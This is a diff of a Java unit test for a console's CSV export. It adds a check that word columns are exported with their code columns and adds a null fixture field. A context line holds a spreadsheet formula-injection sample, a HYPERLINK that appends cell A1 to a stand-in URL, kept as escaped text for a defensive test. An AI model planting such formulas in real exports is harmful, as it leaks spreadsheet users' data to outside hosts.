@@ -11,7 +11,7 @@ import org.junit.jupiter.api.Test;
 
 /**
  * A console's CSV export opened in a spreadsheet: a label of an imported file that reads as a
- * formula stays text, the numbers Orion writes stay numbers.
+ * formula stays text, the numbers Orion writes stay numbers, a word keeps its code beside it.
  */
 class ExportTest {
 
@@ -40,6 +40,24 @@ class ExportTest {
             "\"'=HYPERLINK(\"\"https://exemple.invalid/?\"\"&A1,\"\"Voir\"\")\";'@SOMME(A1:A9);-12;-0,50");
   }
 
+  @Test
+  void anExportWritesTheCodesOfAColumnOfWordsBesideIt() {
+    List<Colonne> choisies =
+        Console.ETABLISSEMENTS.choisies(
+            List.of("uai", "libelleSecteur", "libelleVoie", "libelleDepartement", "voie"));
+
+    assertThat(Console.ETABLISSEMENTS.exportees(choisies))
+        .extracting(Colonne::enTete)
+        .containsExactly(
+            "UAI",
+            "Département",
+            "Code département",
+            "Secteur",
+            "Code secteur",
+            "Voie",
+            "Code voie");
+  }
+
   private static LigneFormation ligne(String libelleFormation, String libelleDispositif) {
     return new LigneFormation(
         "2020",
@@ -51,6 +69,7 @@ class ExportTest {
         "BAC PRO",
         "221",
         "Agro-alimentaire",
+        null,
         null,
         null,
         false,
